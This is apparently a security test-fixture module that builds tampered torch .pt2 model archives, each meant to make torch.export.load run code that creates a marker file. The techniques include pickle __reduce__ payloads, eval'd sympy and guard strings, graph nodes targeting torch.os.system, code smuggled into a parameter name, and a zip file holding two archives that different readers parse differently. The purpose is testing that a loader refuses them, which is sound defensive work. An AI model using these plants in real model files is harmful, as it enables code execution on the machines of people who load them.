"""Model and index files as someone else could write them: a real ``.pt2`` archive (``torch.export.save`` of a
dmltrain model) with one thing planted that makes ``torch.export.load`` run code, each of which creates a marker
file when it runs.

``PLANTS`` names the ways (``torch/export/pt2_archive/_package.py``, ``torch/_export/serde/serialize.py``); the
first five were each seen to create the marker through plain ``torch.export.load(...).module()`` (and a call of
the module for ``guards-code``) on torch 2.14; torch itself rejects the others later, or runs them only when the
module is called. :class:`OverwritesAFile` is a TorchScript program doing what the issue saw one do.
"""

from __future__ import annotations

import json
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

import torch


class OverwritesAFile(torch.nn.Module):
    """A TorchScript embedding model whose forward writes ``XXXX`` over the first bytes of ``victim`` (a shared
    memory map, ``torch.from_file(shared=True)``): what a TorchScript file can do when it runs."""

    def __init__(self, victim: str):
        super().__init__()
        self.victim = victim

    def forward(self, images: torch.Tensor) -> torch.Tensor:
        written = torch.from_file(self.victim, True, 4, dtype=torch.uint8).fill_(88)
        return images.flatten(1)[:, :64] + written.sum() * 0


class _Opens:
    """Unpickled, it opens ``path`` for writing: the marker file (pickle stores ``io.open`` and the path)."""

    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def rewrite_zip(src: Path, dst: Path, edit) -> Path:
    """``src``'s entries written to ``dst`` (stored, in order) after ``edit(entries)`` changed the dict
    ``{name: bytes}`` in place."""
    with zipfile.ZipFile(src) as z:
        entries = {i.filename: z.read(i) for i in z.infolist()}
    edit(entries)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return dst


def _json(entries: dict, name: str, change) -> None:
    key = next(k for k in entries if k.endswith(name))
    doc = json.loads(entries[key])
    change(doc)
    entries[key] = json.dumps(doc).encode()


def _root(entries: dict) -> str:
    return next(iter(entries)).split("/", 1)[0] + "/"


def _pickled_weight(entries: dict, marker: Path) -> None:  # runs: torch.load(weights_only=False)
    def change(doc):
        first = next(iter(doc["config"].values()))
        first["use_pickle"] = True
        entries[_root(entries) + "data/weights/" + first["path_name"]] = pickle.dumps(_Opens(marker))

    _json(entries, "model_weights_config.json", change)


def _opaque_constant(entries: dict, marker: Path) -> None:  # runs: pickle.loads
    entries[_root(entries) + "data/constants/opaque_obj_0"] = pickle.dumps(_Opens(marker))
    _json(
        entries,
        "model_constants_config.json",
        lambda doc: doc["config"].update(
            {"evil": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}
        ),
    )


def _custom_object(entries: dict, marker: Path) -> None:  # TorchScript's unpickler (torchbind objects)
    entries[_root(entries) + "data/constants/custom_obj_0"] = pickle.dumps(_Opens(marker))
    _json(
        entries,
        "model_constants_config.json",
        lambda doc: doc["config"].update(
            {"evil": {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}
        ),
    )


def _legacy_weights(entries: dict, marker: Path) -> None:  # runs: weights_only=True fails, then weights_only=False
    entries[_root(entries) + "data/weights/model.pt"] = pickle.dumps(_Opens(marker))


def _sympy_expression(entries: dict, marker: Path) -> None:  # runs: sympy.sympify is eval
    def change(doc):
        for value in doc["graph_module"]["graph"]["tensor_values"].values():
            for size in value["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] = f"Symbol('s34') + 0*len(str(open({str(marker)!r}, 'w')))"
                    return

    _json(entries, "models/model.json", change)


def _guards_code(entries: dict, marker: Path) -> None:  # runs: exec-uted into the module's guard, run by forward
    _json(entries, "models/model.json", lambda doc: doc.update(guards_code=[f"open({str(marker)!r}, 'w') is not None"]))


def _file_operator(entries: dict, marker: Path) -> None:  # a node that opens a path when the module runs
    def change(doc):
        doc["graph_module"]["graph"]["nodes"][0]["target"] = "torch.ops.aten.from_file.default"

    _json(entries, "models/model.json", change)


def _python_target(entries: dict, marker: Path) -> None:  # any callable below torch: torch.os.system
    _json(
        entries,
        "models/model.json",
        lambda doc: doc["graph_module"]["graph"]["nodes"][0].update(target="torch.os.system"),
    )


def _code_in_a_name(entries: dict, marker: Path) -> None:  # pasted into the Python FX generates
    def change(doc):
        spec = doc["graph_module"]["signature"]["input_specs"][0]
        spec["parameter"]["parameter_name"] = 'x"), open("m", "w"), getattr(self, "y'

    _json(entries, "models/model.json", change)


def _compiled_library(entries: dict, marker: Path) -> None:  # AOTInductor: a shared library, dlopen-ed
    entries[_root(entries) + "data/aotinductor/model/model.so"] = b"\x7fELF"


def _float_precision(entries: dict, marker: Path) -> None:  # no code: torch.export.load printed it for minutes
    def change(doc):
        for value in doc["graph_module"]["graph"]["tensor_values"].values():
            for size in value["sizes"]:
                if "as_expr" in size:
                    size["as_expr"]["expr_str"] += " + Float(1, 3000000)"
                    return

    _json(entries, "models/model.json", change)


def _attribute_target(entries: dict, marker: Path) -> None:  # matches torch.ops.aten.X.Y, resolves to `type`
    _json(
        entries,
        "models/model.json",
        lambda doc: doc["graph_module"]["graph"]["nodes"][0].update(target="torch.ops.aten.__class__.__class__"),
    )


def _zip_entry(name: bytes, data: bytes, offset: int, comment: bytes = b"") -> tuple[bytes, bytes]:
    """A stored zip entry: its local header with the data, and its central-directory record (at ``offset``,
    with a file ``comment``)."""
    crc = zlib.crc32(data)
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(name), 0)
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(name),
                          0, len(comment), 0, 0, 0, offset)  # fmt: skip
    return local + name + data, central + name + comment


def two_archives(clean: dict[str, bytes], hidden: dict[str, bytes]) -> bytes:
    """One file holding two zip archives: ``hidden`` first, its central directory at the offset the end record
    names, then ``clean`` with the end record. :mod:`zipfile` takes the bytes before an archive for a prefix and
    shifts the offsets it reads past them, so it sees ``clean``; a reader that takes the offsets as written
    (torch's miniz) reads ``hidden``'s directory and entries."""
    if len(clean) != len(hidden):
        raise ValueError("two_archives: the two archives need as many entries (one end record names the count)")
    clean_local, clean_cd = b"", b""
    for name, data in clean.items():
        local, central = _zip_entry(name.encode(), data, len(clean_local))
        clean_local, clean_cd = clean_local + local, clean_cd + central
    hidden_local, hidden_cd = b"", b""
    for i, (name, data) in enumerate(hidden.items()):
        local, central = _zip_entry(name.encode(), data, len(hidden_local))
        if i == len(hidden) - 1:  # its directory exactly as long as the clean one's: a comment on the last record
            fill = len(clean_cd) - len(hidden_cd) - len(central)
            local, central = _zip_entry(name.encode(), data, len(hidden_local), b"c" * fill)
        hidden_local, hidden_cd = hidden_local + local, hidden_cd + central
    # the end record's offsets, taken as written, point at the hidden parts: entries from 0, directory at
    # len(clean_local); zipfile finds the clean directory right before the end record and shifts by the rest
    assert len(hidden_local) <= len(clean_local) and len(hidden_cd) == len(clean_cd), "the hidden archive is larger"
    head = hidden_local + b"\0" * (len(clean_local) - len(hidden_local)) + hidden_cd
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(hidden), len(hidden), len(clean_cd), len(clean_local), 0)
    return head + clean_local + clean_cd + end


# how: (plant, what the refusal names); the first five ran the planted code through torch 2.14 (the marker was made)
PLANTS = {
    "pickled-weight": (_pickled_weight, "use_pickle"),
    "opaque-constant": (_opaque_constant, "opaque_obj_0"),
    "legacy-weights": (_legacy_weights, "data/weights/model.pt"),
    "sympy-expression": (_sympy_expression, "the name 'len'"),
    "guards-code": (_guards_code, "guards_code"),
    "custom-object": (_custom_object, "custom_obj_0"),
    "file-operator": (_file_operator, "aten.from_file"),
    "python-target": (_python_target, "torch.os.system"),
    "code-in-a-name": (_code_in_a_name, "is not a name"),
    "compiled-library": (_compiled_library, "data/aotinductor"),
    "float-precision": (_float_precision, "Float with a precision"),
    "attribute-target": (_attribute_target, "ATen operators only"),
    "two-archives": (None, "torch's reader and zipfile read different archives"),
    "two-archives-same-names": (None, "torch's reader finds it elsewhere than zipfile"),
}


def planted_pt2(src: Path, dst: Path, how: str, marker: Path) -> Path:
    """``src`` (a real ``.pt2``) with :data:`PLANTS` ``how`` planted, written to ``dst``; ``two-archives``: the
    opaque constant planted in a second archive that only torch's reader sees (:func:`two_archives`)."""
    if not how.startswith("two-archives"):
        return rewrite_zip(src, dst, lambda entries: PLANTS[how][0](entries, marker))
    with zipfile.ZipFile(src) as z:
        clean = {i.filename: z.read(i) for i in z.infolist()}
    hidden = dict(clean)
    if how == "two-archives":
        _opaque_constant(hidden, marker)
        clean[_root(clean) + "extra/" + "p" * 40] = b"\0" * 4096  # as many entries, each part at least as large
    # "two-archives-same-names": the same entries twice (nothing planted), found at other offsets by each reader
    dst.write_bytes(two_archives(clean, hidden))
    return dst
